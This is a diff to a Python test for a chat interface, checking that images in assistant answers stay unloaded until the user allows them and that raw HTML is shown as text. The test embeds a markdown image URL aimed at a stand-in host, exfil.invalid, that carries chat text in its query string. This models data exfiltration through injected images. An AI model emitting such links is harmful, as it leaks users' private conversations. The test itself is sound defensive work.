@@ -299,12 +299,13 @@ def test_images_in_answers_are_not_loaded_unless_allowed(
     send_to_card(at, first, "show me")
     answer = next(m for m in at.chat_message if m.name == "assistant").markdown[0].value
     assert "![" not in answer.replace("\\![", "")
-    assert "(image not loaded)](http://exfil.invalid/?q=my+secret+chat)" in answer
+    assert "(image not loaded\\)](<http://exfil.invalid/?q=my+secret+chat>)" in answer
+    assert "\\<b\\>bold" in answer  # raw HTML shown as text
     assert cards(at)[0].messages[-1].content == crafted  # the history keeps the original
     assert at.markdown[0].proto.allow_html is False  # raw HTML is never rendered
     at.button(key=key(first, "images")).click().run()
     answer = next(m for m in at.chat_message if m.name == "assistant").markdown[0].value
-    assert "![chart](http://exfil.invalid/?q=my+secret+chat)" in answer
+    assert "![chart](<http://exfil.invalid/?q=my+secret+chat>)" in answer
 
 
 def test_a_200_kb_prompt_goes_through(write_config: Config, scenario: MakeScenario) -> None:
